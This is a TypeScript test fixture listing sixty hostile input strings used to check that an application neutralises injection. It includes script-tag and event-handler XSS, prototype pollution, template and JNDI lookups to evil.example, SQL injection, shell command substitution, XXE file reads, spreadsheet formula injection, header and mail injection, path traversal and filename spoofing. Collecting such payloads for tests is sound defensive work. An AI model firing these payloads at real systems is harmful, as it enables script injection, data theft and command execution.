/**
 * Sixty texts that are a program, a header, a formula or an address to whatever takes them for one. Those that could run
 * something call `pwned()`, so that a test can see that nothing did.
 */
export const hostilePayloads: readonly string[] = [
  // Markup
  '<script>pwned()</script>',
  '"><script>pwned()</script>',
  "'><img src=x onerror=pwned()>",
  '<svg/onload=pwned()>',
  '<svg><script href="data:,pwned()"/></svg>',
  '</title><script>pwned()</script>',
  '</textarea><script>pwned()</script>',
  '</script><script>pwned()</script>',
  '<!--<script>pwned()//-->',
  ']]><script>pwned()</script>',
  '<iframe srcdoc="<script>parent.pwned()</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<form action="https://evil.example/"><button>Valider</button></form>',
  '<input autofocus onfocus=pwned()>',
  '<details open ontoggle=pwned()>',
  '<a href="javascript:pwned()">facture</a>',
  '<style>*{background:url(https://evil.example/?c)}</style>',
  // Attributes, addresses and JSON
  '" autofocus onfocus="pwned()',
  "' onmouseover='pwned()",
  '` onload=`pwned()`',
  'javascript:pwned()',
  'data:text/html,<script>pwned()</script>',
  '//evil.example/a',
  '\\\\evil.example\\partage',
  '{"__proto__":{"isAdmin":true}}',
  '"}],"evil":[{"a":"',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '\u2028pwned()\u2029',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  // Templates, queries and shells
  '{{constructor.constructor("pwned()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the template is the point
  '${pwned()}',
  '#{7*7}<%= 7*7 %>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the template is the point
  '${jndi:ldap://evil.example/a}',
  "'; drop table invoices; --",
  "' or '1'='1",
  '$(touch /tmp/pwned)`touch /tmp/pwned`',
  '| touch /tmp/pwned',
  // Typesetting and XML
  '#read("/etc/passwd")',
  '#eval("1+1") $x^2$ *gras* @réf <étiquette>',
  '#import "@preview/evil:1.0.0": *',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '<?xml-stylesheet href="https://evil.example/a.xsl"?>',
  // Spreadsheets
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("https://evil.example","facture")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  // Headers, mail and file names
  'Mairie\r\nBcc: victime@evil.example',
  'Mairie\nSet-Cookie: staff=evil',
  'Mairie\u2028Bcc: victime@evil.example',
  '=?utf-8?B?QmNjOiB2aWN0aW1lQGV2aWwuZXhhbXBsZQ==?=',
  'patron@banque.example" <victime@evil.example>, "',
  '../../../../etc/passwd',
  'facture.pdf\u202Efdp.exe',
  // What is seen and what is there
  'a\u0000b\u0007c\u001b[31m',
  `${'é'.repeat(40)}\u0301\u0301\u0301\u200b\u200f\ufeff\ud83d${'z'.repeat(120)}`,
];
